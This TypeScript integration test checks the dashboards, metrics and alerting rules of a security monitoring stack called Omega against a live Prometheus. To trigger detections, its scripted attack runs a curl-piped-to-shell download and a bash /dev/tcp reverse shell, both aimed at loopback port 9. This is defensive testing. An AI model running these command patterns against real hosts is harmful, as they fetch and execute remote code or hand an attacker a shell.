// Every panel of the dashboards charts/omega ships, run against a real Prometheus (Debian's)
// scraping a real local Omega (`omega up`: nats-server and all seven services, the sentinel with
// eBPF when it runs as root) while a scripted attack and gRPC calls give it something to show.
// A panel without data fails, naming the panel and whether any service declares its metric;
// metrics known to be missing are in charts/omega/dashboards/pending-metrics.yaml with the reason.
// The same live stack checks every service's /metrics against promtool check metrics and Omega's
// naming rule (metric-naming.ts), and every expression of the chart's alerting rules against the
// live Prometheus: it evaluates, and each metric it reads is one a service declares.
import { execFile } from 'node:child_process';
import { hostname } from 'node:os';
import * as grpc from '@grpc/grpc-js';
import { service as healthService } from 'grpc-health-check';
import {
  OMEGA_SERVICES,
  dashboardQueries,
  declaredMetrics,
  expositionViolations,
  findKubeTools,
  metricsIn,
  pendingMetrics,
  promtool,
  renderedRuleGroups,
  startLocalOmega,
  startPrometheus,
  type AlertingRule,
  type LocalOmega,
  type OmegaService,
  type PanelQuery,
  type Prometheus,
} from './index';

const queries = dashboardQueries();
const pending = pendingMetrics();
let omega: LocalOmega;
let prometheus: Prometheus;
/** Metric names each service declares on its /metrics (read from the services, not the code). */
const declared = new Set<string>();
/** Each service's /metrics text, as the last scrape before the checks saw it. */
const expositions = new Map<OmegaService, string>();

const Health = grpc.makeGenericClientConstructor(healthService, 'Health');

interface HealthClient {
  check(
    request: { service: string },
    options: { deadline: number },
    callback: (err: grpc.ServiceError | null) => void,
  ): void;
  close(): void;
}

/** One standard gRPC health check; resolves to the status code (0 OK, 5 NOT_FOUND). */
function healthCheck(port: number, serviceName: string): Promise<number> {
  const client = new Health(
    `127.0.0.1:${port}`,
    grpc.credentials.createInsecure(),
  ) as unknown as HealthClient;
  return new Promise((resolve) => {
    client.check({ service: serviceName }, { deadline: Date.now() + 10_000 }, (err) => {
      client.close();
      resolve(err?.code ?? grpc.status.OK);
    });
  });
}

/**
 * Command lines two shipped rules catch, aimed at loopback port 9 (nothing listens; nothing is
 * fetched or connected): a download piped to a shell, and a bash /dev/tcp reverse shell, which
 * the shipped reverse-shell playbook answers.
 */
async function scriptedAttack(): Promise<void> {
  const run = (file: string, args: string[]) =>
    new Promise<void>((resolve) => execFile(file, args, () => resolve()));
  await run('sh', ['-c', 'curl -s --max-time 1 http://127.0.0.1:9/omega-dashboard-test | sh']);
  // An interactive shell with its output on the socket: `exec 3<>/dev/tcp/...` alone is how exec
  // health probes test a port, and the shipped rule rightly leaves it alone.
  await run('bash', ['-c', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1 || true']);
}

async function waitFor(
  what: string,
  check: () => Promise<boolean>,
  timeoutMs: number,
): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error(`${what} within ${timeoutMs} ms`);
    await new Promise((r) => setTimeout(r, 500));
  }
}

beforeAll(async () => {
  omega = await startLocalOmega();
  prometheus = await startPrometheus(
    OMEGA_SERVICES.map((s) => ({
      // The job names a ServiceMonitor gives them in a cluster (the Service's name).
      job: `omega-${s}`,
      target: `127.0.0.1:${omega.metricsPort(s)}`,
      // The sentinel's ServiceMonitor relabels its series with the node name.
      ...(s === 'sentinel' ? { labels: { node: hostname() } } : {}),
    })),
  );
  await waitFor(
    'every Omega target up in Prometheus',
    async () => (await prometheus.query('sum(up{job=~"omega-.+"})'))[0]?.value[1] === '7',
    60_000,
  );
  // Load: answered and refused gRPC calls on every service, and an attack the rules catch.
  for (const s of OMEGA_SERVICES) {
    expect(await healthCheck(omega.grpcPort(s), '')).toBe(grpc.status.OK);
    expect(await healthCheck(omega.grpcPort(s), 'omega.NoSuchService')).toBe(grpc.status.NOT_FOUND);
  }
  await scriptedAttack();
  await waitFor(
    'an alert from the scripted attack',
    async () => (await prometheus.query('sum(omega_intelligence_alerts_total)')).length > 0,
    60_000,
  ).catch((err: Error) => {
    throw new Error(`${err.message}; omega up output ends with:\n${omega.output().slice(-3000)}`);
  });
  // The reverse-shell alert starts the reverse-shell playbook; its steps run and it closes. Each
  // is asynchronous: wait for them before sampling.
  for (const metric of [
    'omega_orchestrator_workflows_started_total',
    'omega_orchestrator_step_duration_seconds_count',
    'omega_orchestrator_workflows_closed_total',
  ]) {
    await waitFor(
      `${metric} from the playbook the alert started`,
      async () => (await prometheus.query(`sum(${metric})`)).length > 0,
      90_000,
    ).catch((err: Error) => {
      const orchestratorLog = omega
        .output()
        .split('\n')
        .filter((line) => line.startsWith('orchestrator'))
        .slice(-40)
        .join('\n');
      throw new Error(`${err.message}; the orchestrator's log ends with:\n${orchestratorLog}`);
    });
  }
  // rate() over [5m] needs two samples after the calls: a few scrapes.
  await new Promise((r) => setTimeout(r, 4000));
  for (const s of OMEGA_SERVICES) {
    const text = await (await fetch(`http://127.0.0.1:${omega.metricsPort(s)}/metrics`)).text();
    for (const name of declaredMetrics(text)) declared.add(name);
    expositions.set(s, text);
  }
}, 600_000);

afterAll(async () => {
  await prometheus?.stop();
  await omega?.stop();
});

function isDeclared(name: string): boolean {
  return declared.has(name) || declared.has(name.replace(/_total$/, ''));
}

function describeMissing(q: PanelQuery): string {
  const { names, patterns } = metricsIn(q.expr);
  const parts = [
    ...names.map(
      (n) =>
        `${n} ${isDeclared(n) ? 'is declared but has no samples' : 'is exported by no service'}`,
    ),
    ...patterns.map(
      (p) =>
        `${p.source} ${[...declared].some((d) => p.test(d)) ? 'matches declared metrics without samples' : 'matches no exported metric'}`,
    ),
  ];
  return `${q.dashboard} › ${q.panel}: ${q.expr} returned no data (${parts.join('; ')})`;
}

const cases = queries.map((q): [string, PanelQuery] => {
  const { names } = metricsIn(q.expr);
  const missing = names.find((n) => pending.notExported[n]);
  const rare = names.find((n) => pending.onlyWhen[n]);
  const label = missing
    ? `has no data yet: ${pending.notExported[missing]}`
    : rare
      ? `has data only when ${pending.onlyWhen[rare]}`
      : 'returns data';
  return [`${q.dashboard} › ${q.panel} (${q.expr}) ${label}`, q];
});

describe('dashboards against a real Prometheus scraping a local Omega', () => {
  it.each(cases)('%s', async (_name, q) => {
    const result = await prometheus.query(q.expr);
    const { names } = metricsIn(q.expr);
    const missing = names.filter((n) => pending.notExported[n]);
    const rare = names.filter((n) => pending.onlyWhen[n]);
    if (missing.length > 0) {
      // Still missing, as pending-metrics.yaml says; once a service exports it, delete the entry.
      expect(missing.filter(isDeclared)).toEqual([]);
      expect(result).toEqual([]);
      return;
    }
    if (rare.length > 0) {
      expect(rare.filter((n) => !isDeclared(n))).toEqual([]);
      return;
    }
    if (result.length === 0) throw new Error(describeMissing(q));
    expect(result.length).toBeGreaterThan(0);
  });

  it('lists in pending-metrics.yaml only metrics some panel uses', () => {
    const used = new Set(queries.flatMap((q) => metricsIn(q.expr).names));
    const listed = [...Object.keys(pending.notExported), ...Object.keys(pending.onlyWhen)];
    expect(listed.filter((n) => !used.has(n))).toEqual([]);
  });
});

describe("every service's /metrics as Prometheus users expect", () => {
  it.each([...OMEGA_SERVICES])('%s passes promtool check metrics', async (service) => {
    const checked = await promtool(['check', 'metrics'], expositions.get(service));
    expect(checked.output).toBe('');
    expect(checked.code).toBe(0);
  });

  it.each([...OMEGA_SERVICES])('%s names every family by the naming rule', (service) => {
    expect(expositionViolations(expositions.get(service) ?? '')).toEqual([]);
  });

  it.each([...OMEGA_SERVICES])(
    '%s exposes the standard process, Node.js and gRPC server families, unprefixed',
    (service) => {
      const families = declaredMetrics(expositions.get(service) ?? '');
      for (const name of [
        'process_cpu_seconds_total',
        'process_resident_memory_bytes',
        'nodejs_eventloop_lag_p99_seconds',
        'grpc_server_started_total',
        'grpc_server_handled_total',
        'grpc_server_msg_received_total',
        'grpc_server_msg_sent_total',
        'grpc_server_handling_seconds',
      ]) {
        expect([service, name, families.has(name)]).toEqual([service, name, true]);
      }
      // The health checks beforeAll made, with grpc-ecosystem's labels and code names.
      expect(expositions.get(service)).toMatch(
        /^grpc_server_handled_total\{grpc_type="unary",grpc_service="grpc\.health\.v1\.Health",grpc_method="Check",grpc_code="NotFound"\} [1-9]/m,
      );
    },
  );
});

describe("the chart's alerting rules against the live Prometheus", () => {
  let rules: AlertingRule[] = [];
  beforeAll(async () => {
    const groups = await renderedRuleGroups(findKubeTools(), {
      set: { 'metrics.prometheusRule.enabled': 'true' },
    });
    rules = groups.flatMap((g) => g.rules);
  });

  it('has rules to check', () => {
    expect(rules.length).toBeGreaterThan(0);
  });

  it('evaluates every expression, reading only metrics a service declares', async () => {
    for (const rule of rules) {
      // A query Prometheus refuses rejects here, naming the expression.
      await prometheus.query(rule.expr);
      const { names } = metricsIn(rule.expr);
      const undeclared = names.filter((n) => n !== 'up' && !isDeclared(n));
      expect([rule.alert, undeclared]).toEqual([rule.alert, []]);
    }
  });

  it("selects the stack's jobs: the service-down rule sees all seven targets, up", async () => {
    const down = rules.find((r) => r.alert === 'OmegaServiceDown');
    const selector = /^(up\{.*\}) == 0$/.exec(down?.expr ?? '')?.[1];
    expect(selector).toBeDefined();
    const targets = await prometheus.query(selector ?? '');
    expect(targets.map((t) => [t.metric['job'], t.value[1]]).sort()).toEqual(
      OMEGA_SERVICES.map((s) => [`omega-${s}`, '1']).sort(),
    );
  });
});
